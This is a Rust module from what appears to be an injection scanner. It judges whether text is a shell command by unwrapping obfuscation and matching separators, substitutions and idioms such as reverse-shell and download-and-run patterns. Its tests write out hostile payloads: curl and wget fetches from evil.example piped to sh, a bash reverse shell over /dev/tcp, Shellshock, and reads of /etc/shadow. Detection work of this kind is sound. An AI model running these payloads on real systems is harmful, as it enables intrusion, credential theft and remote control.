//! Whether a text is a command that a shell would run: behind a separator, in a substitution, or by itself.

use super::phrases::phrases;
use super::{Finding, Weight};

/// The gravest reading of a text.
pub(super) fn assess(text: &str) -> Option<Finding> {
    let plain = unwrap_words(text);
    let weight = substitutions(&plain)
        .max(separated(&plain))
        .max(alone(&plain))
        .max(idioms(&plain));
    let weight = match weight {
        // Prose and pasted instructions hold commands, too; what runs them is short of words.
        Some(Weight::Strong) if prose(text) && !tells(&plain) => Some(Weight::Weak),
        other => other,
    };
    weight.map(|weight| Finding {
        class: "rce",
        weight,
        what: "a command that a shell would run",
    })
}

/// The text without what a shell takes out of words: quotes in words, backslashes, `${IFS}`, `$@`.
fn unwrap_words(text: &str) -> String {
    let mut out = text.to_owned();
    if !text.contains(['$', '\'', '"', '%', '\\', '^', '{', '`']) {
        return out;
    }
    for (odd, plain) in [
        ("${ifs}", " "),
        ("${path:0:1}", "/"),
        ("${home:0:1}", "/"),
        ("${pwd:0:1}", "/"),
        ("$ifs$9", " "),
        ("$ifs", " "),
        ("$@", ""),
        ("$*", ""),
        ("$u", ""),
        ("''", ""),
        ("``", ""),
        ("\"\"", ""),
        ("%0a", "\n"),
    ] {
        if out.contains(odd) {
            out = out.replace(odd, plain);
        }
    }
    // `{curl,http://…}` is a command with its argument.
    if let (Some(open), true) = (out.find('{'), out.contains(',')) {
        let name: String = out[open + 1..]
            .chars()
            .take_while(char::is_ascii_alphanumeric)
            .collect();
        if COMMANDS.contains(&name.as_str()) {
            out = out.replace(['{', '}'], " ").replacen(',', " ", 1);
        }
    }
    let bytes: Vec<char> = out.chars().collect();
    let mut plain = String::with_capacity(out.len());
    for (at, c) in bytes.iter().enumerate() {
        let inside = at > 0
            && bytes[at - 1].is_ascii_alphanumeric()
            && bytes.get(at + 1).is_some_and(char::is_ascii_alphanumeric);
        if matches!(c, '\\' | '^' | '\'' | '"') && inside {
            continue;
        }
        plain.push(*c);
    }
    plain
}

/// `… && whoami` at the very end: no sentence ends so.
fn tells(text: &str) -> bool {
    ["&&", "||", ";", "|"].iter().any(|mark| {
        text.rsplit_once(mark)
            .is_some_and(|(_, last)| TELLING.contains(&last.trim()))
    })
}

/// Commands whose names are no words.
const TELLING: [&str; 6] = [
    "whoami",
    "ifconfig",
    "ipconfig",
    "systeminfo",
    "netstat",
    "printenv",
];

/// Sentences: several words of letters in a row before anything that a shell cares for, or many characters that are no
/// ASCII.
fn prose(text: &str) -> bool {
    let wide = text.chars().filter(|c| !c.is_ascii()).count();
    // A page with lines of words shows commands; it runs none.
    let page = text.matches('\n').take(2).count() == 2 && super::words(text) >= 8;
    let around: usize = text.split('`').step_by(2).map(super::words).sum();
    if wide >= 4 || page || text.contains("```") || text.contains('`') && around >= 4 {
        return true;
    }
    let before = text
        .split([';', '|', '`', '$', '&', '\n', '<', '>', '('])
        .next()
        .unwrap_or_default();
    super::words(before) >= 5
}

/// `$(cmd)`, `` `cmd` ``, `<(cmd)`.
fn substitutions(text: &str) -> Option<Weight> {
    let mut best = None;
    for (open, close) in [("$(", ')'), ("`", '`'), ("<(", ')'), (">(", ')')] {
        for (at, _) in text.match_indices(open).take(20) {
            let inner = &text[at + open.len()..];
            let inner = &inner[..inner.find(close).unwrap_or(inner.len())];
            let weight = command(inner);
            // `--exec=`id``: a word in backticks is code in prose, too, but not where it touches what stands before it.
            let touched = open == "`"
                && text[..at]
                    .chars()
                    .next_back()
                    .is_some_and(|c| c.is_ascii_alphanumeric() || "=/;|&\"',".contains(c));
            let first = inner
                .split(['|', ';', '&'])
                .next()
                .unwrap_or_default()
                .trim();
            best = best.max(if (touched || open == "$(") && SURE.contains(&first) {
                Some(Weight::Strong)
            } else {
                weight
            });
        }
    }
    if text.contains("$((") && sums(text) {
        best = Some(Weight::Strong);
    }
    best
}

/// `$((3482*7301))`: arithmetic that tells whether a shell did it.
fn sums(text: &str) -> bool {
    text.match_indices("$((").take(10).any(|(at, _)| {
        let inner = &text[at + 3..];
        let inner = &inner[..inner.find("))").unwrap_or(inner.len())];
        inner.contains(['*', '+', '-'])
            && inner
                .bytes()
                .all(|b| b.is_ascii_digit() || matches!(b, b'*' | b'+' | b'-' | b' '))
    })
}

/// Behind `;`, `|`, `&`, a new line.
fn separated(text: &str) -> Option<Weight> {
    let mut best = None;
    for (at, c) in text
        .char_indices()
        .filter(|(_, c)| matches!(c, ';' | '|' | '&' | '\n'))
        .take(60)
    {
        let rest =
            text[at + c.len_utf8()..].trim_start_matches(['|', '&', ' ', '\t', '(', '{', '!']);
        let rest = rest
            .split([';', '|', '&', '\n', '`', ')'])
            .next()
            .unwrap_or_default();
        let weight = command(rest);
        // A single word behind a separator is a list of words as well.
        best = best.max(match weight {
            Some(Weight::Strong) => weight,
            Some(Weight::Weak) => {
                let front = text[..at].trim();
                // `name;id` is a list of columns.
                let data = front.is_empty()
                    || front
                        .contains(|c: char| c.is_ascii_digit() || matches!(c, '.' | '"' | '\''));
                let short = data
                    && front.split_whitespace().count() <= 2
                    && text.split_whitespace().count() <= 4;
                let rest = rest.trim();
                // No column and no tag is called so.
                let telling = text.split_whitespace().count() <= 4 && TELLING.contains(&rest);
                if telling || short && SURE.contains(&rest) {
                    Some(Weight::Strong)
                } else {
                    weight
                }
            }
            None => None,
        });
    }
    best
}

/// The whole value is a command.
fn alone(text: &str) -> Option<Weight> {
    match command(text.trim()) {
        Some(Weight::Strong) => Some(Weight::Strong),
        Some(Weight::Weak)
            if [
                "whoami",
                "ifconfig",
                "ipconfig",
                "netstat",
                "systeminfo",
                "uname",
            ]
            .contains(&text.trim()) =>
        {
            Some(Weight::Weak)
        }
        _ => None,
    }
}

/// A simple command: the name of one, with arguments that make sense for it.
fn command(text: &str) -> Option<Weight> {
    let spaced;
    let text = if text.contains(['<', '>']) {
        spaced = text
            .replace("> ", ">")
            .replace('>', " >")
            .replace("< ", "<")
            .replace('<', " <");
        spaced.as_str()
    } else {
        text
    };
    let mut words = text.split_whitespace();
    let mut name = words.next()?;
    while matches!(
        name,
        "sudo" | "nohup" | "exec" | "command" | "env" | "time" | "xargs" | "start"
    ) {
        name = words.next()?;
    }
    let path = name.contains('/');
    let base = name.rsplit(['/', '\\']).next().unwrap_or(name);
    let base = base.strip_suffix(".exe").unwrap_or(base);
    let wild = is_pattern(name, base);
    let known = COMMANDS.contains(&base);
    if !known && !wild {
        return None;
    }
    let arguments: Vec<&str> = words.take(12).collect();
    let sensible = arguments.iter().any(|word| {
        word.starts_with('/') && word.len() > 1 && !word.starts_with("//")
            || word.starts_with('-') && word.len() > 1 && word.as_bytes()[1].is_ascii_alphabetic()
            || word.contains("://")
            || word.starts_with("../")
            || word.starts_with("~/")
            || word
                .strip_prefix(['<', '>'])
                .is_some_and(|file| file.contains(['/', '.']) && !file.starts_with('='))
            || word.starts_with("c:\\")
            || word.starts_with("%{")
            || word.starts_with("/c")
            || base == "timeout" && *word == "/t"
            || word.contains('`') && base == "nslookup"
            || base == "set" && *word == "/a"
            || base == "sleep" && word.bytes().all(|b| b.is_ascii_digit() || b == b's')
            || (matches!(
                base,
                "ping" | "nslookup" | "dig" | "host" | "getent" | "telnet" | "nc" | "ncat" | "nmap"
            ) && word.contains('.'))
    });
    Some(
        if (path && known && is_program(name))
            || wild
            || sensible
            || (SURE.contains(&base) && arguments.is_empty() && path)
        {
            Weight::Strong
        } else {
            Weight::Weak
        },
    )
}

/// `/bin/cat`; not `/api/members/find`.
fn is_program(name: &str) -> bool {
    name.starts_with('/')
        && name
            .rsplit_once('/')
            .is_some_and(|(folder, _)| folder.ends_with("bin"))
}

/// `… > shell.php`: output that becomes a program.
fn written_program(text: &str) -> bool {
    !text.contains('<')
        && text.match_indices('>').take(10).any(|(at, _)| {
            let name: String = text[at + 1..]
                .trim_start_matches(['>', ' '])
                .chars()
                .take_while(|c| c.is_ascii_alphanumeric() || "/._-".contains(*c))
                .collect();
            [".php", ".jsp", ".jspx", ".asp", ".aspx"]
                .iter()
                .any(|end| name.ends_with(end))
        })
}

/// `;a=ca;b=t;$a$b /etc/passwd`: a command whose name is put together first.
fn pieced_together(text: &str) -> bool {
    let assigned = text
        .split([';', '&', '\n'])
        .filter(|piece| {
            piece.trim().split_once('=').is_some_and(|(name, _)| {
                !name.is_empty() && name.len() < 8 && name.bytes().all(|b| b.is_ascii_alphabetic())
            })
        })
        .count();
    assigned >= 2
        && [";$", "; $", "&$", "& $", "\n$"].iter().any(|mark| {
            text.match_indices(mark).any(|(at, _)| {
                let rest = &text[at + mark.len()..];
                rest.starts_with(|c: char| c.is_ascii_alphabetic())
            })
        })
}

/// `/???/c?t`, `/bin/l*`: a pattern that a shell turns into a program's path. An address with a query is none.
fn is_pattern(name: &str, base: &str) -> bool {
    let odd = ['?', '*', '['];
    let folder = name.strip_suffix(base).unwrap_or_default();
    base.len() <= 12
        && base.contains(odd)
        && base
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || b"?*[]-".contains(&b))
        && name.starts_with('/')
        && (folder.contains(odd) || folder.ends_with("bin/"))
}

/// What nothing but a shell means.
fn idioms(text: &str) -> Option<Weight> {
    let sure = phrases![
        "/dev/tcp/",
        "() {",
        "(){",
        "bash -i",
        "nc -e",
        "mkfifo /",
        "powershell -e",
        "powershell -nop",
        "powershell -w",
        "-encodedcommand",
        "cmd /c",
        "cmd.exe /c",
        "/bin/sh -",
        "/bin/bash -",
        "base64 -d|",
        "base64 -d |",
        "| sh",
        "|sh",
        "| bash",
        "|bash",
        "/etc/passwd|",
        "certutil -urlcache",
        "wscript.shell",
        "--upload-pack=",
        "--checkpoint-action=",
        "-oproxycommand=",
        " -oq/",
        " -oqueuedirectory=",
        " -x/var/www",
        "ext::sh",
        "cmd|'",
        "<<<\"",
        "<<<'",
        "--open-files-in-pager=",
    ];
    if written_program(text) || pieced_together(text) {
        return Some(Weight::Strong);
    }
    sure.places(text)
        .take(40)
        .any(|(begin, end)| {
            let idiom = &text[begin..end];
            // `(){` must hold a command behind it; a function of a script in a ticket does not.
            if idiom.starts_with("()") {
                return phrases![";}", "; }", ":;"].stand_in(&text[begin..]);
            }
            let after = text[end..].chars().next();
            !idiom.ends_with("sh") || !after.is_some_and(|c| c.is_ascii_alphanumeric())
        })
        .then_some(Weight::Strong)
}

/// Commands that need no argument to be one.
const SURE: [&str; 16] = [
    "id",
    "whoami",
    "ls",
    "pwd",
    "uname",
    "ifconfig",
    "ipconfig",
    "netstat",
    "ps",
    "env",
    "printenv",
    "hostname",
    "systeminfo",
    "dir",
    "set",
    "w",
];

/// Commands that attacks run.
const COMMANDS: [&str; 103] = [
    "tar",
    "zip",
    "dd",
    "timeout",
    "useradd",
    "socat",
    "mysql",
    "psql",
    "getent",
    "nmap",
    "set",
    "cat",
    "tac",
    "nl",
    "more",
    "less",
    "head",
    "tail",
    "ls",
    "dir",
    "id",
    "whoami",
    "uname",
    "pwd",
    "ps",
    "env",
    "printenv",
    "hostname",
    "ifconfig",
    "ipconfig",
    "ip",
    "netstat",
    "ss",
    "arp",
    "route",
    "wget",
    "curl",
    "fetch",
    "lwp-download",
    "nc",
    "ncat",
    "netcat",
    "telnet",
    "ping",
    "ping6",
    "nslookup",
    "dig",
    "host",
    "traceroute",
    "bash",
    "sh",
    "zsh",
    "dash",
    "ksh",
    "csh",
    "ash",
    "busybox",
    "python",
    "python2",
    "python3",
    "perl",
    "ruby",
    "php",
    "node",
    "lua",
    "awk",
    "gawk",
    "sed",
    "grep",
    "egrep",
    "find",
    "xxd",
    "od",
    "base64",
    "tftp",
    "ftp",
    "scp",
    "ssh",
    "rm",
    "mv",
    "cp",
    "chmod",
    "chown",
    "touch",
    "mkdir",
    "echo",
    "printf",
    "sleep",
    "kill",
    "crontab",
    "powershell",
    "cmd",
    "certutil",
    "bitsadmin",
    "mshta",
    "rundll32",
    "regsvr32",
    "systeminfo",
    "type",
    "net",
    "reg",
    "wmic",
    "tasklist",
];

#[cfg(test)]
mod tests {
    use super::*;

    fn strong(text: &str) -> bool {
        assess(&text.to_lowercase()).is_some_and(|found| found.weight == Weight::Strong)
    }

    #[test]
    fn what_a_shell_would_run_is_found() {
        for text in [
            "; cat /etc/passwd",
            "127.0.0.1;id",
            "127.0.0.1 | whoami",
            "$(curl http://evil.example/x.sh | sh)",
            "`wget http://evil.example/x -o /tmp/x`",
            "a && ping -c 10 127.0.0.1",
            "c''at${IFS}/etc/passwd;cat${IFS}/etc/passwd",
            "x\n/bin/ls -la",
            "() { :; }; /bin/bash -c 'id'",
            "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
            "|/???/c?t /etc/passwd",
            "cat /etc/shadow",
            "& ping -n 10 127.0.0.1 &",
            "cmd /c dir c:\\",
            "--exec=`id`--remote",
            "x;echo $((3482*7301))",
            "200;id>/tmp/o",
            "app.log;tac</etc/passwd",
            "报表 && whoami",
            "a=ca;b=t;$a$b /etc/x",
            "id > shell.php",
            "--upload-pack=touch /tmp/x",
        ] {
            assert!(strong(text), "{text}");
        }
    }

    #[test]
    fn words_are_not() {
        for text in [
            "cats & dogs",
            "tom; find him later",
            "a | b | type c",
            "call me & sleep well",
            "客户反馈;请运维执行 `cat /etc/hosts` 看看结果",
            "please log in to the server, then run: sudo systemctl restart nginx; cat /etc/nginx/nginx.conf",
            "r&d; net 30 days",
            "id;name;phone",
            "/api/members/find",
            "/api/upload/zip",
            "/hp/api/trivia?format=json&id=7",
            "type = 'it' and priority >= 2",
            "try `tail -n 100 /var/log/x.log | grep error` and tell me what you see",
        ] {
            assert!(!strong(text), "{text}");
        }
    }
}
